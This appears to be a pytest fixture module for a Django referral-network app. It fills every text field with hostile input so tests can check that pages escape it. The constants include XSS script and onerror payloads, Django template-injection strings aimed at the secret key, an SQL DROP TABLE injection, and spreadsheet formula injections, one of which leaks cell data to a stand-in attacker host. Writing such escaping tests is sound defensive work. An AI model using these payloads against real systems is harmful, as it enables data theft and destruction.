"""A small world of real objects, one of each kind a URL can name, with hostile text.

The permission matrix fills every URL's ids from here, so an allowed role gets a real page
(not a 404 for an id that points nowhere). Every free-text field holds hostile input
(script tags, attribute breakouts, Django template syntax, SQL, spreadsheet formulas), so
the same walk also checks that every page shows such text as text.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.conf import settings
from django.utils import timezone

# --- Hostile input ---------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
TEMPLATE_VAR = "{{ settings.SECRET_KEY }}"
TEMPLATE_TAG = "{% debug %}"
SQL = "'; DROP TABLE partners_partner; --"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULAS = (HYPERLINK, "+1+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")

# Markers: each hostile field also carries a plain word, so a test can find the field on a
# page (and tell it apart from the app's own text) whatever the escaping did to the rest.
PARTNER_NAME = f"{HYPERLINK} Zorblax Clinic {SCRIPT}{IMG}"
PARTNER_NOTES = f"Partner notes {TEMPLATE_VAR} {TEMPLATE_TAG} {SQL} {SCRIPT}"
CONTACT_NAME = f"+1+1 Quillon {SCRIPT} {TEMPLATE_VAR}"
PATIENT_FIRST = f"@SUM(A1:A9) Vexa{IMG}"
PATIENT_LAST = f"-2 Qzpatient {SCRIPT} {TEMPLATE_TAG}"
PATIENT_MARKER = "Qzpatient"  # never shown to a role without the patients capability
SOURCE_TEXT = f"\t=1+1 Murkwell {SCRIPT} {TEMPLATE_VAR}"
REASON = f"Reason {SCRIPT} {TEMPLATE_VAR} {SQL}"
DIAGNOSIS = f"M54.5 {SQL}"
OTHER_NAME = f"\r=1+1 Ostrava Gym {IMG}"

# What a hostile page would contain if a value were not escaped or were evaluated.
RAW_MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")


def evaluated(text: str, *, html: bool = True) -> list[str]:
    """The signs that a value got run rather than shown: raw markup in HTML, the secret
    key (a template evaluated {{ settings.SECRET_KEY }}), or {% debug %}'s dump of the
    context. A CSV or JSON body carries the text as it is: only HTML must escape it."""
    found = [raw for raw in RAW_MARKUP if raw in text] if html else []
    if settings.SECRET_KEY in text:
        found.append("SECRET_KEY")
    if "'sql_queries'" in text or "{'True': True" in text:
        found.append("{% debug %} output")
    return found


@dataclass
class World:
    users: dict[str, Any]
    location: Any
    partner: Any
    other_partner: Any
    duplicate: Any
    contact: Any
    patient: Any
    referral: Any
    unknown_referral: Any
    followups: dict[str, Any]  # one per role, owned by that role's user
    rule: Any
    message: Any
    letter: Any
    template: Any
    provider: Any
    pair: Any
    registry_import: Any
    event: Any
    invitee: Any
    playbook: Any
    update: Any
    cap: Any
    goal: Any
    item: Any
    import_job: Any
    api_key: Any
    hl7_message: Any
    fhir_request: Any
    subscriber: Any
    removed_partner: Any
    removed_referral: Any
    rsvp_token: str
    unsubscribe_token: str
    report_slugs: list[str] = field(default_factory=list)


def build_world(users: dict[str, Any], data_dir: Path) -> World:
    from refnet.api.keys import api_key_create
    from refnet.followups.models import FollowUp, FollowUpKind, FollowUpRule
    from refnet.growth.services import goal_save, item_save
    from refnet.imports.services import job_dry_run, job_start
    from refnet.outbox.addresses import unsubscribe_token
    from refnet.outbox.compose import message_send
    from refnet.outbox.models import MessageTemplate
    from refnet.outbox.services import message_enqueue
    from refnet.outreach.models import Playbook
    from refnet.outreach.services import event_save, invitees_add, rsvp_token
    from refnet.partners.services import contact_create, partner_create
    from refnet.practice.models import Location
    from refnet.referrals.services import patient_create, referral_record
    from refnet.registry.models import ComplementaryPair, RegistryImport, RegistryProvider
    from refnet.reports.views.reports import report_entries
    from refnet.rewards.models import ComplianceCap
    from refnet.rewards.services import appreciation_issue
    from refnet.updates.services import update_create

    now = timezone.now()
    location = Location.objects.create(name=f"Main St {SCRIPT}", city="Denver", state="CO",
                                       zip_code="80206", latitude=39.73, longitude=-104.95)
    partner = partner_create(by=None, kind="clinician", name=PARTNER_NAME, notes=PARTNER_NOTES,
                             email="zorblax@clinic.example", phone="(303) 555-0101",
                             address_line=f"1 Elm St {IMG}", city="Denver", state="CO",
                             zip_code="80206", stage="active")
    other_partner = partner_create(by=None, kind="local_business", name=OTHER_NAME,
                                   email="gym@ostrava.example", category="gym_trainer")
    duplicate = partner_create(by=None, kind="clinician", name=f"{PARTNER_NAME} (dup)")
    contact = contact_create(partner=partner, by=None, name=CONTACT_NAME,
                             email="quillon@clinic.example",
                             notes=f"Contact notes {TEMPLATE_VAR} {SCRIPT}")
    patient = patient_create(by=None, first_name=PATIENT_FIRST, last_name=PATIENT_LAST,
                             birth_date=date(1980, 4, 12), mrn="MRN-<b>1</b>",
                             notes=f"Patient notes {SCRIPT} {TEMPLATE_VAR}",
                             may_thank_referrer=True)
    referral = referral_record(patient=patient, source_partner=partner, source_contact=contact,
                               location=location, received_at=now - timedelta(days=3),
                               reason=REASON, diagnosis=DIAGNOSIS, by=users["front_desk"])
    unknown_referral = referral_record(
        patient=patient, source_unknown=True, source_text=SOURCE_TEXT, location=location,
        received_at=now - timedelta(days=2), by=users["front_desk"])

    followups = {}
    for role, user in users.items():
        followups[role] = FollowUp.objects.create(
            key=f"world:{role}", kind=FollowUpKind.TASK, partner=partner, assignee=user,
            due_at=now + timedelta(days=1), original_due_at=now + timedelta(days=1),
            summary=f"Check in with {PARTNER_NAME}"[:300])

    message = message_send(purpose="thank_you", channel="email", partner=partner,
                           contact=contact, referral=referral, by=users["coordinator"])
    letter = message_enqueue(
        channel="letter", purpose="thank_you", audience="general", partner=partner,
        to_name=PARTNER_NAME, to_address=f"{PARTNER_NAME}\n1 Elm St\nDenver, CO 80206",
        subject=f"Thanks {SCRIPT}", body_text=f"Dear {PARTNER_NAME},\n{TEMPLATE_VAR}",
        names_patient=False, by=None)

    provider = RegistryProvider.objects.create(
        npi=1234567893, entity_type=1, name=f"ANN {SCRIPT}, DPT", primary_taxonomy="225100000X",
        latitude=39.74, longitude=-104.95, state="CO", zip5="80206", city="DENVER",
        address_line=f"2 MAIN ST {IMG}", phone="3035550100")
    pair = ComplementaryPair.objects.first() or ComplementaryPair.objects.create(
        taxonomy="2251", label=f"PT {SCRIPT}", practice_offers="", weight=Decimal("1.00"))
    registry_import = RegistryImport.objects.create(file_name=f"npi{SCRIPT}.csv", size=10,
                                                    path=str(data_dir / "none.csv"))

    starts = now + timedelta(days=10)
    event = event_save(by=users["outreach"], title=f"Talk {SCRIPT} {TEMPLATE_VAR}", kind="talk",
                       starts_at=starts, ends_at=starts + timedelta(hours=1),
                       place=f"Gym {IMG}", cost=Decimal("150.00"), owner=users["outreach"],
                       notes=f"Event notes {SQL}")
    invitees_add(event=event, by=users["outreach"], partners=[partner, other_partner])
    invitee = event.invitees.get(partner=partner)

    appreciation_issue(partner=partner, kind="gift", description=f"Mug {SCRIPT} {TEMPLATE_VAR}",
                       value=Decimal("10.00"), given_on=timezone.localdate(),
                       by=users["coordinator"])
    update = update_create(by=users["outreach"], title=f"News {SCRIPT}",
                           body=f"Body with {SQL} and {IMG}", audience={})
    goal = goal_save(by=users["manager"], title=f"Goal {SCRIPT}", why=TEMPLATE_VAR)
    item = item_save(by=users["manager"], goal=goal, title=f"Step {IMG}", owner=users["manager"],
                     cadence="weekly", next_due=timezone.localdate() + timedelta(days=3),
                     notes=TEMPLATE_TAG)

    import_file = data_dir / "hostile.csv"
    quoted_link = HYPERLINK.replace('"', '""')
    import_file.write_text(
        "Received,First name,Last name,Clinic,Source\n"
        f'2024-01-05,"{PATIENT_FIRST}","{PATIENT_LAST}",Nowhere {SCRIPT},"{quoted_link}"\n'
        f'not a date,"-2","+1+1","@SUM(A1)","{SQL}"\n', encoding="utf-8")
    import_job, _header = job_start(path=import_file, file_name=f"hostile{SCRIPT}.csv",
                                    kind="referrals", source=f"Old EHR {SCRIPT}", by=users["admin"])
    import_job = job_dry_run(job=import_job)

    api_key, _raw = api_key_create(name=f"EHR {SCRIPT}", role="coordinator",
                                   resources=["partners"], by=users["admin"])
    from refnet.fhir.models import FhirRequest
    from refnet.hl7.models import HL7Message, HL7Subscriber
    from refnet.partners.services import partner_remove

    hl7_message = HL7Message.objects.create(
        received_at=timezone.now(), channel="http", actor=f"EHR {SCRIPT}",
        sending_application=f"EHR{SCRIPT}", message_type="REF^I12", version="2.5.1",
        ack_code="AA", referral=referral, raw=f"MSH|^~\\&|EHR|{SCRIPT}\rPID|||{SQL}",
        ack="MSA|AA|1")
    fhir_request = FhirRequest.objects.create(
        received_at=timezone.now(), method="POST", path="/fhir/ServiceRequest",
        actor=f"EHR {SCRIPT}", status=201, body=f'{{"note": "{TEMPLATE_VAR}"}}')
    subscriber = HL7Subscriber.objects.create(sending_application=f"EHR{SCRIPT}",
                                              host="127.0.0.1", port=2576)
    removed_partner = partner_create(by=users["manager"], kind="clinician",
                                     name=f"Removed {SCRIPT} Clinic")
    partner_remove(partner=removed_partner, by=users["manager"], reason=f"Closed {SQL}")
    from refnet.referrals.services import referral_remove

    removed_referral = referral_record(
        patient=patient, source_partner=partner, location=location,
        received_at=now - timedelta(days=1), reason=REASON, by=users["front_desk"])
    referral_remove(referral=removed_referral, by=users["manager"],
                    reason=f"Duplicate {SCRIPT} {TEMPLATE_VAR} {SQL}")
    return World(
        users=users, location=location, partner=partner, other_partner=other_partner,
        duplicate=duplicate, contact=contact, patient=patient, referral=referral,
        unknown_referral=unknown_referral, followups=followups,
        rule=FollowUpRule.objects.order_by("pk").first(), message=message, letter=letter,
        template=MessageTemplate.objects.order_by("pk").first(), provider=provider, pair=pair,
        registry_import=registry_import, event=event, invitee=invitee,
        playbook=Playbook.objects.filter(is_active=True).order_by("pk").first(), update=update,
        cap=ComplianceCap.objects.order_by("pk").first(), goal=goal, item=item,
        import_job=import_job, api_key=api_key, hl7_message=hl7_message,
        fhir_request=fhir_request, subscriber=subscriber, removed_partner=removed_partner,
        removed_referral=removed_referral,
        rsvp_token=rsvp_token(invitee),
        unsubscribe_token=unsubscribe_token("email", partner.email),
        report_slugs=sorted(report_entries()),
    )


# A Wednesday in mid-month, mid-afternoon in the practice's time zone: "this month",
# "this week" and "due tomorrow" mean the same on every day the suite runs.
WORLD_TIME = datetime(2026, 6, 17, 18, 0, tzinfo=UTC)


@pytest.fixture(name="world")
def world_fixture(users, settings, tmp_path):
    """The world, with the clock at WORLD_TIME (and running) for the whole test."""
    settings.DATA_DIR = tmp_path
    with time_machine.travel(WORLD_TIME, tick=True):
        yield build_world(users, tmp_path)
